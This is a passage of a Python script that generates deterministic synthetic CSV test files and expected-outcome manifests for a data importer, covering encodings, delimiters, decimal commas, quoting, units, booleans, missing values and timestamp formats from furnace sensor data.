#!/usr/bin/env python3
"""Writes the importer test corpus: tests/data/import/ (one file per importer feature) and
tests/data/hostile/ (files that try to hurt the parser), each with a MANIFEST.json that
states the expected outcome.

Everything is synthetic and deterministic (fixed seeds, gzip mtime 0): running this script
again re-creates byte-identical files. Python 3.9+ standard library only.

    python3 tests/data/make_corpus.py                 # (re)write the folders + manifests
    python3 tests/data/make_corpus.py --check         # also re-read every file with an
                                                      # independent reference reader of the
                                                      # importer contract and compare
    python3 tests/data/make_corpus.py --generate DIR  # write the huge "generate" files
                                                      # (10 MB line, 10,000 columns, ...) to DIR

Files that must be huge are not stored; their manifest entries carry a "generate" object
whose algorithm is described in tests/data/README.md (and implemented in generate_huge()
below) together with the SHA-256 of the result, so a C++ test can build them itself.
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import hashlib
import io
import json
import math
import random
import re
import sqlite3
import struct
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
IMPORT_DIR = HERE / "import"
HOSTILE_DIR = HERE / "hostile"
MISREAD_DIR = HERE / "misread"

BERLIN = ZoneInfo("Europe/Berlin")
UTC = dt.timezone.utc
TZ_ARGS = {"timezone": "Europe/Berlin"}
MAX_STORED_BYTES = 200 * 1024

# ----------------------------------------------------------------------------------------
# small helpers
# ----------------------------------------------------------------------------------------


def utc_iso(t: dt.datetime) -> str:
    """Aware datetime -> '2026-01-14T20:00:00Z' (fractions kept when present)."""
    u = t.astimezone(UTC)
    s = u.strftime("%Y-%m-%dT%H:%M:%S")
    if u.microsecond:
        s += ("." + f"{u.microsecond:06d}").rstrip("0")
    return s + "Z"


def berlin(naive: dt.datetime, fold: int = 0) -> dt.datetime:
    """Naive wall-clock time in Europe/Berlin -> aware. fold=0: first pass of a repeated
    hour; for a time in the skipped spring hour fold=0 gives the pre-transition offset,
    which equals 'shifted forward by the gap'."""
    return naive.replace(tzinfo=BERLIN, fold=fold)


def quote_field(value: str, delim: str) -> str:
    if any(ch in value for ch in (delim, '"', "\n", "\r")):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_line(fields, delim=",", quote=True) -> str:
    if not quote:
        return delim.join(fields)
    return delim.join(quote_field(f, delim) for f in fields)


def join_lines(lines, eol="\n", final_eol=True) -> str:
    text = eol.join(lines)
    return text + eol if final_eol else text


def split_unit(header: str):
    """The unit convention the manifests assume: a trailing [unit] or (unit)."""
    h = header.strip()
    m = re.match(r"^(.*?)\s*[\[(]([^\[\]()]*)[\])]$", h)
    if m and m.group(1).strip():
        return m.group(1).strip(), m.group(2).strip()
    return h, ""


def fmt(x: float, nd: int, dec: str = ".") -> str:
    s = f"{x:.{nd}f}"
    return s.replace(".", dec) if dec != "." else s


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class Corpus:
    def __init__(self, root: Path):
        self.root = root
        self.entries: list[dict] = []
        self.written: set[str] = set()

    def write(self, name: str, data: bytes) -> None:
        if len(data) > MAX_STORED_BYTES:
            raise SystemExit(f"{name}: {len(data)} bytes > 200 KB, use a generate entry")
        if name in self.written:
            raise SystemExit(f"{name} written twice")
        self.written.add(name)
        (self.root / name).write_bytes(data)

    def add(self, entry: dict) -> None:
        self.entries.append(entry)


def entry(file=None, *, files=None, generate=None, kind="csv", args=None, expect, why, **extra):
    e: dict = {}
    if file is not None:
        e["file"] = file
    if files is not None:
        e["files"] = files
    if generate is not None:
        e["generate"] = generate
    e["kind"] = kind
    if args:
        e["args"] = args
    e["expect"] = expect
    e.update(extra)
    e["why"] = why
    return e


def ok(rows, rejected=0, *, columns=None, time_column="__unset__", rejected_lines=None, **more):
    x = {"exit": 0, "rows_imported": rows, "rows_rejected": rejected}
    if columns is not None:
        x["columns"] = columns
    if time_column != "__unset__":
        x["time_column"] = time_column
    if rejected_lines is not None:
        x["rejected_lines"] = rejected_lines
    x.update(more)
    return x


def fail3(name, *extra_contains):
    base = Path(name).name
    return {
        "exit": 3,
        "message_contains": [base, *extra_contains],
        "message_regex": r"^error: .*" + re.escape(base) + r":[0-9]+:[0-9]+: ",
    }


# ----------------------------------------------------------------------------------------
# realistic furnace data
# ----------------------------------------------------------------------------------------

DE_HEADERS = [
    "Zeitstempel",
    "Ofentemperatur [°C]",
    "Sollwert [°C]",
    "Bandgeschwindigkeit [m/min]",
    "Umgebungstemperatur [°C]",
    "Luftfeuchte [%]",
    "Stückzahl",
    "Ausschuss",
    "Energie [kWh]",
    "Status",
    "Material",
]
DE_TYPES = {
    "Zeitstempel": "timestamp",
    "Ofentemperatur": "numeric",
    "Sollwert": "numeric",
    "Bandgeschwindigkeit": "numeric",
    "Umgebungstemperatur": "numeric",
    "Luftfeuchte": "numeric",
    "Stückzahl": "numeric",
    "Ausschuss": "numeric",
    "Energie": "numeric",
    "Status": "categorical",
    "Material": "categorical",
}
DE_UNITS = {
    "Zeitstempel": "",
    "Ofentemperatur": "°C",
    "Sollwert": "°C",
    "Bandgeschwindigkeit": "m/min",
    "Umgebungstemperatur": "°C",
    "Luftfeuchte": "%",
    "Stückzahl": "",
    "Ausschuss": "",
    "Energie": "kWh",
    "Status": "",
    "Material": "",
}
DE_ROLES = {
    "Zeitstempel": "time",
    "Ofentemperatur": "furnace_temp",
    "Sollwert": "setpoint",
    "Bandgeschwindigkeit": "speed",
    "Umgebungstemperatur": "ambient_temp",
    "Luftfeuchte": "humidity",
    "Stückzahl": "produced",
    "Ausschuss": "scrap",
    "Energie": "energy",
    "Status": "state",
    "Material": "material",
}


def furnace_rows_de(n, start: dt.datetime, step_min: int, seed: int, dec=".", ts=None):
    """Rows (list of str lists) matching DE_HEADERS. States: Produktion, Stillstand, Störung
    (>= 3 distinct so that no one mistakes the column for a boolean)."""
    rnd = random.Random(seed)
    rows = []
    ts = ts or (lambda t: t.strftime("%Y-%m-%d %H:%M:%S"))
    temp = 181.0
    for k in range(n):
        t = start + dt.timedelta(minutes=step_min * k)
        phase = k % 24
        state = "Stillstand" if phase in (9, 10) else "Störung" if phase == 17 else "Produktion"
        sp = 180.0 if k < n // 3 else 182.5 if k < 2 * n // 3 else 185.0
        running = state == "Produktion"
        temp += (sp - temp) * 0.3 + rnd.gauss(0, 0.6) + (0.8 if not running else -0.2)
        speed = 3.2 + rnd.choice([-0.15, -0.05, 0.0, 0.05, 0.1]) if running else 0.0
        produced = int(round(speed * step_min / 0.5)) if running else 0
        scrap = rnd.randint(0, 4) if running else 0
        ambient = 9.0 + 3.0 * math.sin(k / 8.0) + rnd.uniform(-0.3, 0.3)
        hum = 62.0 + 6.0 * math.cos(k / 9.0) + rnd.uniform(-1, 1)
        energy = (step_min / 15.0) * (31.0 + 0.04 * produced + 0.05 * (temp - 180.0)) + rnd.uniform(-0.6, 0.6)
        material = "EP-210" if k < n / 3 else "EP-230" if k < 2 * n / 3 else "PE-180"
        rows.append(
            [
                ts(t),
                fmt(temp, 1, dec),
                fmt(sp, 1, dec),
                fmt(speed, 2, dec),
                fmt(ambient, 1, dec),
                fmt(hum, 1, dec),
                str(produced),
                str(scrap),
                fmt(energy, 2, dec),
                state,
                material,
            ]
        )
    return rows


EN_HEADERS = [
    "Timestamp",
    "Furnace temperature [°C]",
    "Setpoint [°C]",
    "Line speed [m/min]",
    "Ambient temperature [°C]",
    "Relative humidity [%]",
    "Parts produced",
    "Scrap",
    "Energy [kWh]",
    "State",
]
EN_TYPES = {
    "Timestamp": "timestamp",
    "Furnace temperature": "numeric",
    "Setpoint": "numeric",
    "Line speed": "numeric",
    "Ambient temperature": "numeric",
    "Relative humidity": "numeric",
    "Parts produced": "numeric",
    "Scrap": "numeric",
    "Energy": "numeric",
    "State": "categorical",
}
EN_ROLES = {
    "Timestamp": "time",
    "Furnace temperature": "furnace_temp",
    "Setpoint": "setpoint",
    "Line speed": "speed",
    "Ambient temperature": "ambient_temp",
    "Relative humidity": "humidity",
    "Parts produced": "produced",
    "Scrap": "scrap",
    "Energy": "energy",
    "State": "state",
}


def historian_rows_en(start: dt.datetime, n: int, seed: int, k0: int = 0):
    """Hourly historian rows (EN_HEADERS); k0 continues the state pattern across files."""
    rnd = random.Random(seed)
    rows = []
    temp = 182.0
    for j in range(n):
        k = k0 + j
        t = start + dt.timedelta(hours=j)
        day_hour = t.hour
        # maintenance every 4th day 06:00-09:00, short stops on some evenings
        if (t.toordinal() % 4 == 0) and 6 <= day_hour < 9:
            state = "MAINT"
        elif day_hour in (22,) and t.toordinal() % 3 == 0:
            state = "STOP"
        else:
            state = "RUN"
        sp = 180.0 if (t.toordinal() % 7) < 3 else 185.0 if (t.toordinal() % 7) < 5 else 188.0
        running = state == "RUN"
        temp += (sp - temp) * 0.35 + rnd.gauss(0, 0.7) - (1.2 if running else -0.5)
        speed = 3.0 + 0.1 * rnd.randint(0, 6) if running else 0.0
        produced = int(round(speed * 60 / 0.5)) if running else 0
        scrap = rnd.randint(0, 9) if running else 0
        ambient = 4.0 + 5.0 * math.sin((day_hour - 9) / 24 * 2 * math.pi) + rnd.uniform(-0.5, 0.5)
        hum = 70.0 - 12.0 * math.sin((day_hour - 9) / 24 * 2 * math.pi) + rnd.uniform(-2, 2)
        energy = 118.0 + 0.16 * produced + 0.9 * (temp - 180.0) + rnd.uniform(-2, 2)
        rows.append(
            [
                t.strftime("%Y-%m-%d %H:%M:%S"),
                fmt(temp, 1),
                fmt(sp, 1),
                fmt(speed, 2),
                fmt(ambient, 1),
                fmt(hum, 1),
                str(produced),
                str(scrap),
                fmt(energy, 1),
                state,
            ]
        )
    return rows


HOSTILE_HEADERS = ["Zeitstempel", "Ofentemperatur [°C]", "Bandgeschwindigkeit [m/min]", "Energie [kWh]", "Status"]


def hostile_rows(n, start=dt.datetime(2026, 1, 14, 6, 0), step_min=15, seed=7, dec=".", ts=None):
    """Rows for HOSTILE_HEADERS. Status: Produktion / Stillstand (k=4) / Wartung (k=7)."""
    rnd = random.Random(seed)
    ts = ts or (lambda t: t.strftime("%Y-%m-%d %H:%M:%S"))
    rows = []
    for k in range(n):
        t = start + dt.timedelta(minutes=step_min * k)
        state = "Stillstand" if k % 20 == 4 else "Wartung" if k % 20 == 7 else "Produktion"
        running = state == "Produktion"
        temp = 184.0 + rnd.gauss(0, 1.2)
        speed = 3.1 + 0.05 * rnd.randint(0, 4) if running else 0.0
        energy = 33.0 + rnd.uniform(-2.0, 2.0) - (6.0 if not running else 0.0)
        rows.append([ts(t), fmt(temp, 1, dec), fmt(speed, 2, dec), fmt(energy, 2, dec), state])
    return rows


HOSTILE_TYPES = {
    "Zeitstempel": "timestamp",
    "Ofentemperatur": "numeric",
    "Bandgeschwindigkeit": "numeric",
    "Energie": "numeric",
    "Status": "categorical",
}


# ========================================================================================
# (A) feature files
# ========================================================================================


def build_import(c: Corpus) -> None:
    base_rows = furnace_rows_de(24, dt.datetime(2026, 2, 10, 6, 0), 15, seed=11)
    base_rows_dc = furnace_rows_de(24, dt.datetime(2026, 2, 10, 6, 0), 15, seed=11, dec=",")
    de_expect = dict(columns=11, time_column="Zeitstempel", types=DE_TYPES, units=DE_UNITS)

    def base_text(delim, rows=base_rows, eol="\n"):
        return join_lines([csv_line(DE_HEADERS, delim)] + [csv_line(r, delim) for r in rows], eol)

    # --- encodings -----------------------------------------------------------------------
    c.write("utf8_no_bom.csv", base_text(",").encode("utf-8"))
    c.add(entry("utf8_no_bom.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, roles=DE_ROLES,
                          detected={"encoding": "UTF-8", "delimiter": ",", "decimal_mark": ".",
                                    "has_header": True, "header_line": 1, "gzip": False,
                                    "timestamp_format": "iso8601"}),
                why="Baseline: UTF-8 without BOM, comma, LF, German headers with units; every role is obvious from the header."))

    c.write("utf8_bom.csv", b"\xef\xbb\xbf" + base_text(",").encode("utf-8"))
    c.add(entry("utf8_bom.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, column_names=[split_unit(h)[0] for h in DE_HEADERS],
                          detected={"encoding": "UTF-8 with BOM"}),
                why="UTF-8 with BOM as Excel writes it; the BOM must not end up in the first column name."))

    c.write("utf16le_bom_excel_unicode.txt", b"\xff\xfe" + base_text("\t", eol="\r\n").encode("utf-16-le"))
    c.add(entry("utf16le_bom_excel_unicode.txt", args=TZ_ARGS,
                expect=ok(24, **de_expect, detected={"encoding_starts_with": "UTF-16LE", "delimiter": "\t"}),
                why="Excel 'Unicode text' export: UTF-16LE with BOM, TAB separated, CRLF."))

    c.write("utf16be_bom.csv", b"\xfe\xff" + base_text(";", rows=base_rows_dc).encode("utf-16-be"))
    c.add(entry("utf16be_bom.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, detected={"encoding_starts_with": "UTF-16BE", "delimiter": ";", "decimal_mark": ","}),
                why="UTF-16BE with BOM, semicolon and decimal comma."))

    c.write("utf16le_no_bom.csv", base_text(",").encode("utf-16-le"))
    c.add(entry("utf16le_no_bom.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, detected={"encoding": "UTF-16LE", "delimiter": ","}),
                why="UTF-16LE without BOM, detected from the NUL byte in every second position."))

    c.write("windows1252_german_excel.csv", base_text(";", rows=base_rows_dc, eol="\r\n").encode("cp1252"))
    c.add(entry("windows1252_german_excel.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, roles=DE_ROLES,
                          detected={"encoding": "Windows-1252", "delimiter": ";", "decimal_mark": ","}),
                why="German Excel 'CSV (Trennzeichen-getrennt)': Windows-1252 (°, ü, ö as single bytes), semicolon, decimal comma, CRLF."))

    # --- delimiters / decimal comma --------------------------------------------------------
    c.write("delim_semicolon.csv", base_text(";").encode("utf-8"))
    c.add(entry("delim_semicolon.csv", args=TZ_ARGS, expect=ok(24, **de_expect, detected={"delimiter": ";", "decimal_mark": "."}),
                why="Semicolon separated with decimal point."))
    c.write("delim_tab.tsv", base_text("\t").encode("utf-8"))
    c.add(entry("delim_tab.tsv", args=TZ_ARGS, expect=ok(24, **de_expect, detected={"delimiter": "\t"}),
                why="TAB separated."))
    c.write("delim_pipe.csv", base_text("|").encode("utf-8"))
    c.add(entry("delim_pipe.csv", args=TZ_ARGS, expect=ok(24, **de_expect, detected={"delimiter": "|"}),
                why="Pipe separated (some SCADA exports)."))
    c.write("decimal_comma.csv", base_text(";", rows=base_rows_dc).encode("utf-8"))
    c.add(entry("decimal_comma.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, detected={"delimiter": ";", "decimal_mark": ","}),
                why="Semicolon with decimal comma (185,3); numbers must come out as 185.3, not as text."))

    # --- line ends --------------------------------------------------------------------------
    c.write("crlf.csv", base_text(",", eol="\r\n").encode("utf-8"))
    c.add(entry("crlf.csv", args=TZ_ARGS, expect=ok(24, **de_expect), why="CRLF line ends; no CR may stick to the last column's values."))
    c.write("cr_only.csv", base_text(",", eol="\r").encode("utf-8"))
    c.add(entry("cr_only.csv", args=TZ_ARGS, expect=ok(24, **de_expect), why="Classic Mac CR-only line ends."))

    # --- quotes -----------------------------------------------------------------------------
    q_head = ["Zeitstempel", "Ofentemperatur [°C]", "Status", "Bemerkung"]
    comments = {
        2: "Zone 3, Brenner 2 gewechselt",
        5: 'Bediener: "Band läuft unrund"',
        8: "Zeile 1\nZeile 2",
        11: "Sensor getauscht;\nneu kalibriert,\nSchicht B",
        14: "Tür \"Nord\", geschlossen",
        17: "ok",
    }
    rnd = random.Random(5)
    lines = [csv_line(q_head)]
    for k in range(20):
        t = dt.datetime(2026, 2, 11, 8, 0) + dt.timedelta(minutes=10 * k)
        st = "Stillstand" if k == 6 else "Wartung" if k == 12 else "Produktion"
        row = [t.strftime("%Y-%m-%d %H:%M:%S"), fmt(183 + rnd.uniform(-2, 2), 1), st, comments.get(k, "")]
        if k in (3, 9):  # fully quoted rows, as some tools write them
            lines.append(",".join('"' + f.replace('"', '""') + '"' for f in row))
        else:
            lines.append(csv_line(row))
    c.write("quoted_fields.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("quoted_fields.csv", args=TZ_ARGS,
                expect=ok(20, columns=4, time_column="Zeitstempel",
                          types={"Zeitstempel": "timestamp", "Ofentemperatur": "numeric", "Status": "categorical", "Bemerkung": "categorical"},
                          levels_contain={"Bemerkung": [comments[2], comments[5], comments[8], comments[11], comments[14]]}),
                why="Quoted fields with doubled quotes, embedded comma/semicolon and embedded newlines: 20 records on more physical lines."))

    # --- preamble ---------------------------------------------------------------------------
    pre = [
        "Historian export - Werk Ulm, Linie 2 Durchlaufofen",
        "Exportiert am 11.02.2026 07:14 von j.weber",
        "Intervall: 15 min, Aggregat: Mittelwert",
    ]
    c.write("preamble_historian.csv", join_lines(pre + [csv_line(DE_HEADERS)] + [csv_line(r) for r in base_rows]).encode("utf-8"))
    c.add(entry("preamble_historian.csv", args=TZ_ARGS,
                expect=ok(24, **de_expect, detected={"header_line": 4, "has_header": True}),
                why="Three metadata lines before the header, as historian exports write them; skipped with a note, header on line 4."))

    # --- no header --------------------------------------------------------------------------
    rnd = random.Random(8)
    lines = []
    for k in range(20):
        lines.append(",".join([fmt(184 + rnd.uniform(-2, 2), 1), fmt(180 + 5 * (k // 7), 1),
                               fmt(3.0 + rnd.uniform(0, 0.4), 2), fmt(10 + rnd.uniform(-3, 3), 1), fmt(31 + rnd.uniform(-2, 2), 2)]))
    c.write("no_header.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("no_header.csv",
                expect=ok(20, columns=5, time_column=None,
                          column_names=["column_1", "column_2", "column_3", "column_4", "column_5"],
                          types={f"column_{i}": "numeric" for i in range(1, 6)},
                          detected={"has_header": False, "header_line": 0}),
                why="First line is numeric, so there is no header: columns become column_1..column_5, row 1 is data."))

    # --- units in headers -------------------------------------------------------------------
    u_head = ["Zeit", "Ofentemperatur [°C]", "Abluft (degC)", "Druck [bar]", "Bandgeschwindigkeit [m/min]",
              "Luftfeuchte [%]", "Energie [kWh]", "Drehzahl (1/min)", "Air temperature [K]"]
    rnd = random.Random(9)
    lines = [csv_line(u_head)]
    for k in range(16):
        t = dt.datetime(2026, 2, 12, 0, 0) + dt.timedelta(minutes=30 * k)
        lines.append(csv_line([t.strftime("%Y-%m-%dT%H:%M:%S"), fmt(185 + rnd.uniform(-2, 2), 1), fmt(95 + rnd.uniform(-4, 4), 1),
                               fmt(1.013 + rnd.uniform(-0.01, 0.01), 3), fmt(3.2 + rnd.uniform(-0.1, 0.1), 2),
                               fmt(60 + rnd.uniform(-5, 5), 1), fmt(32 + rnd.uniform(-2, 2), 2), str(1450 + rnd.randint(-20, 20)),
                               fmt(283.1 + rnd.uniform(-2, 2), 1)]))
    c.write("units_in_headers.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("units_in_headers.csv", args=TZ_ARGS,
                expect=ok(16, columns=9, time_column="Zeit",
                          column_names=["Zeit", "Ofentemperatur", "Abluft", "Druck", "Bandgeschwindigkeit", "Luftfeuchte", "Energie", "Drehzahl", "Air temperature"],
                          units={"Zeit": "", "Ofentemperatur": "°C", "Abluft": "°C", "Druck": "bar", "Bandgeschwindigkeit": "m/min",
                                 "Luftfeuchte": "%", "Energie": "kWh", "Drehzahl": "rpm", "Air temperature": "K"}),
                why="Units in [..] and (..) are split off the name and normalised: 'Abluft (degC)' -> unit '°C', '1/min' -> 'rpm'."))

    # --- timestamp formats ------------------------------------------------------------------
    build_timestamp_files(c)

    # --- DST --------------------------------------------------------------------------------
    build_dst_features(c)

    # --- historian split + manual checks + batch list -------------------------------------
    build_historian_set(c)

    # --- per item -------------------------------------------------------------------------
    rnd = random.Random(21)
    lines = [csv_line(["Item", "Oven temperature [°C]", "Dwell time [min]", "Humidity [%]", "Material", "Defect"])]
    defects = 0
    for k in range(60):
        temp = 178 + rnd.uniform(-8, 8)
        dwell = 12 + rnd.uniform(-2, 2)
        hum = 55 + rnd.uniform(-15, 15)
        mat = ["EP-210", "EP-230", "PE-180"][k % 3]
        p = 1 / (1 + math.exp(-(-2.5 + 0.25 * abs(temp - 178) + 0.03 * (hum - 55))))
        d = 1 if rnd.random() < p else 0
        if k == 0:
            d = 1  # make sure both values occur
        if k == 1:
            d = 0
        defects += d
        lines.append(csv_line([str(k + 1), fmt(temp, 1), fmt(dwell, 1), fmt(hum, 1), mat, str(d)]))
    c.write("per_item_no_time.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("per_item_no_time.csv",
                expect=ok(60, columns=6, time_column=None,
                          types={"Item": "numeric", "Oven temperature": "numeric", "Dwell time": "numeric",
                                 "Humidity": "numeric", "Material": "categorical", "Defect": "boolean"},
                          roles={"Material": "material", "Defect": "defect", "Humidity": "humidity"}),
                why="Per-item records without timestamps (row order is the index); 'Item' is 1..60, small integers that must not become a timestamp."))

    # --- booleans ---------------------------------------------------------------------------
    rnd = random.Random(22)
    b_head = ["Zeitstempel", "Tür offen", "Alarm", "Kühlung aktiv", "Wartung fällig", "Ofentemperatur [°C]"]
    lines = [csv_line(b_head)]
    for k in range(20):
        t = dt.datetime(2026, 2, 13, 6, 0) + dt.timedelta(minutes=5 * k)
        door = "1" if k in (3, 4, 11) else "0"
        alarm = "true" if k in (4, 12, 13) else "false"
        cool = "NA" if k == 9 else ("yes" if k % 4 else "no")
        due = "ja" if k >= 15 else "nein"
        lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S"), door, alarm, cool, due, fmt(183 + rnd.uniform(-2, 2), 1)]))
    c.write("booleans.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("booleans.csv", args=TZ_ARGS,
                expect=ok(20, columns=6, time_column="Zeitstempel",
                          types={"Zeitstempel": "timestamp", "Tür offen": "boolean", "Alarm": "boolean", "Kühlung aktiv": "boolean",
                                 "Wartung fällig": "boolean", "Ofentemperatur": "numeric"},
                          missing={"Kühlung aktiv": 1}),
                why="Two-valued columns 0/1, true/false, yes/no, ja/nein are boolean; NA in one of them is a missing cell."))

    # --- missing tokens ---------------------------------------------------------------------
    tokens = ["", "NA", "N/A", "#N/A", "#NV", "NaN", "null", "NULL", "-", "--", "?"]
    rows = hostile_rows(33, start=dt.datetime(2026, 2, 13, 0, 0), seed=23)
    for i, tok in enumerate(tokens):
        rows[3 * i][1] = tok                  # Ofentemperatur: each token once
    for i, tok in enumerate(["NaN", "-", "", "#NV"]):
        rows[1 + 8 * i][3] = tok              # Energie: 4 missing
    rows[2][4] = "NA"
    rows[20][4] = "?"
    c.write("missing_tokens.csv", join_lines([csv_line(HOSTILE_HEADERS)] + [csv_line(r) for r in rows]).encode("utf-8"))
    c.add(entry("missing_tokens.csv", args=TZ_ARGS,
                expect=ok(33, columns=5, time_column="Zeitstempel", types=HOSTILE_TYPES, rejected_lines=[],
                          missing={"Ofentemperatur": 11, "Bandgeschwindigkeit": 0, "Energie": 4, "Status": 2}),
                why="Every missing-value token (empty, NA, N/A, #N/A, #NV, NaN, null, NULL, -, --, ?) is a missing cell, never a rejected row."))

    # --- number forms -----------------------------------------------------------------------
    forms = ["1.5", "1e-3", "-0.5", "+2", "1E3", "0.000125", "-12", "2.5e+2", "0", "-0.0", "7", "3.25"]
    lines = [csv_line(["Zeitstempel", "Messwert", "Ofentemperatur [°C]"])]
    for k, v in enumerate(forms):
        t = dt.datetime(2026, 2, 13, 12, 0) + dt.timedelta(minutes=k)
        lines.append(csv_line([t.strftime("%Y-%m-%d %H:%M:%S"), v, fmt(180 + k * 0.5, 1)]))
    c.write("number_forms.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("number_forms.csv", args=TZ_ARGS,
                expect=ok(12, columns=3, time_column="Zeitstempel", rejected_lines=[],
                          types={"Zeitstempel": "timestamp", "Messwert": "numeric", "Ofentemperatur": "numeric"},
                          values={"Messwert": [1.5, 0.001, -0.5, 2.0, 1000.0, 0.000125, -12.0, 250.0, 0.0, -0.0, 7.0, 3.25]}),
                why="Number spellings the importer accepts: 1.5, 1e-3, -0.5, +2, 1E3, 2.5e+2, -0.0."))

    # --- gzip -------------------------------------------------------------------------------
    gz = gzip.compress(base_text(",").encode("utf-8"), compresslevel=9, mtime=0)
    c.write("historian_gzip.csv.gz", gz)
    c.add(entry("historian_gzip.csv.gz", args=TZ_ARGS,
                expect=ok(24, **de_expect, detected={"gzip": True, "encoding": "UTF-8"}),
                why="Gzip-compressed export (magic 1f 8b) is decompressed transparently."))

    # --- end-of-day midnight (steel_energy quirk) and 24:00 -------------------------------
    lines = [csv_line(["Date", "Usage_kWh", "Lagging_Current_Reactive.Power_kVarh", "Load_Type"])]
    rnd = random.Random(31)
    utc_checks = {}
    t0 = dt.datetime(2026, 1, 14, 22, 0)
    for k in range(12):  # 14/01 22:00 .. 15/01 00:45, the 00:00 row labelled 14/01
        t = t0 + dt.timedelta(minutes=15 * k)
        label_t = t - dt.timedelta(days=1) if (t.hour == 0 and t.minute == 0) else t
        lines.append(csv_line([label_t.strftime("%d/%m/%Y %H:%M"), fmt(3.2 + rnd.uniform(0, 2), 2),
                               fmt(2.1 + rnd.uniform(0, 1.5), 2), ["Light_Load", "Medium_Load", "Maximum_Load"][k % 3]]))
        if t.hour == 0 and t.minute == 0:
            utc_checks[str(k + 2)] = utc_iso(berlin(t))
            utc_checks[str(k + 3)] = utc_iso(berlin(t + dt.timedelta(minutes=15)))
    c.write("end_of_day_midnight.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("end_of_day_midnight.csv", args=TZ_ARGS,
                expect=ok(12, columns=4, time_column="Date", rejected_lines=[], utc_at_lines=utc_checks,
                          detected={"timestamp_format": "dmy_slash"}),
                why="steel_energy quirk: the 00:00 row carries the date of the day it closes (follows 23:45 of the same date); it is moved to the next day (fix_end_of_day_midnights)."))

    lines = [csv_line(["Zeitstempel", "Energie [kWh]", "Status"], ";")]
    utc_checks = {}
    t0 = dt.datetime(2026, 1, 14, 21, 0)
    rnd = random.Random(32)
    for k in range(8):  # hourly 22:00 .. 05:00 with '24:00' instead of 00:00 of the 15th
        t = t0 + dt.timedelta(hours=k + 1)
        if t.hour == 0:
            label = (t - dt.timedelta(days=1)).strftime("%d.%m.%Y") + " 24:00"
            utc_checks[str(k + 2)] = utc_iso(berlin(t))
        else:
            label = t.strftime("%d.%m.%Y %H:%M")
        lines.append(csv_line([label, fmt(120 + rnd.uniform(-5, 5), 1, ","), ["RUN", "STOP", "MAINT"][k % 3]], ";"))
    c.write("hour_24_00.csv", join_lines(lines).encode("utf-8"))
    c.add(entry("hour_24_00.csv", args=TZ_ARGS,
                expect=ok(8, columns=3, time_column="Zeitstempel", rejected_lines=[], utc_at_lines=utc_checks,
                          detected={"decimal_mark": ",", "timestamp_format": "dmy_dot"}),
                why="'14.01.2026 24:00' is the end of the 14th, i.e. 15.01.2026 00:00."))


def build_timestamp_files(c: Corpus) -> None:
    head_rest = ["Furnace temperature [°C]", "Line speed [m/min]", "State"]
    start = dt.datetime(2026, 1, 14, 21, 0)

    def ampm(t):
        h12 = t.hour % 12 or 12
        return f"{t.month}/{t.day}/{t.year} {h12}:{t.minute:02d} {'AM' if t.hour < 12 else 'PM'}"

    specs = [
        # name, header, renderer, fmt, step, description
        ("ts_iso_t.csv", "Timestamp", lambda t: t.strftime("%Y-%m-%dT%H:%M:%S"), "iso8601", 60, "ISO 8601 with 'T', naive local time."),
        ("ts_iso_space.csv", "Timestamp", lambda t: t.strftime("%Y-%m-%d %H:%M"), "iso8601", 60, "ISO 8601 with a space and no seconds."),
        ("ts_iso_offset.csv", "Timestamp", lambda t: berlin(t).isoformat(), "iso8601", 60, "ISO 8601 with +01:00 offset: absolute, the zone argument does not matter."),
        ("ts_iso_z.csv", "Timestamp", lambda t: berlin(t).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"), "iso8601", 60, "ISO 8601 UTC with Z."),
        ("ts_iso_millis.csv", "Timestamp", lambda t: t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}", "iso8601", 0.25 / 60, "ISO 8601 with milliseconds (4 samples per second)."),
        ("ts_dmy_dot.csv", "Zeitstempel", lambda t: t.strftime("%d.%m.%Y %H:%M:%S"), "dmy_dot", 60, "German dd.mm.yyyy HH:MM:SS."),
        ("ts_dmy_dot_no_seconds.csv", "Zeitstempel", lambda t: t.strftime("%d.%m.%Y %H:%M"), "dmy_dot", 60, "German dd.mm.yyyy HH:MM."),
        ("ts_dmy_slash.csv", "Date", lambda t: t.strftime("%d/%m/%Y %H:%M"), "dmy_slash", 60, "dd/mm/yyyy HH:MM (day 14 > 12 decides the order)."),
        ("ts_mdy_ampm.csv", "Date", ampm, "mdy_slash", 60, "US m/d/yyyy h:mm AM/PM across midnight and noon (12:00 AM is 00:00, 12:00 PM is noon)."),
        ("ts_ymd_slash.csv", "Timestamp", lambda t: t.strftime("%Y/%m/%d %H:%M:%S"), "ymd_slash", 60, "yyyy/mm/dd HH:MM:SS."),
        ("ts_dmy_dash.csv", "Timestamp", lambda t: t.strftime("%d-%m-%Y %H:%M"), "dmy_dash", 60, "dd-mm-yyyy HH:MM."),
        ("ts_epoch_seconds.csv", "Timestamp", lambda t: str(int(berlin(t).timestamp())), "epoch_seconds", 60, "Unix epoch seconds (UTC)."),
        ("ts_epoch_millis.csv", "Timestamp", lambda t: str(int(round(berlin(t).timestamp() * 1000))), "epoch_millis", 60, "Unix epoch milliseconds (UTC)."),
    ]
    for name, th, render, tf, step, why in specs:
        rnd = random.Random(name)
        n = 18
        lines = [csv_line([th] + head_rest)]
        times = []
        for k in range(n):
            t = start + dt.timedelta(minutes=step * k)
            times.append(t)
            st = "STOP" if k == 5 else "MAINT" if k == 6 else "RUN"
            lines.append(csv_line([render(t), fmt(184 + rnd.uniform(-2, 2), 1), fmt(3.1 + 0.05 * (k % 3) if st == "RUN" else 0.0, 2), st]))
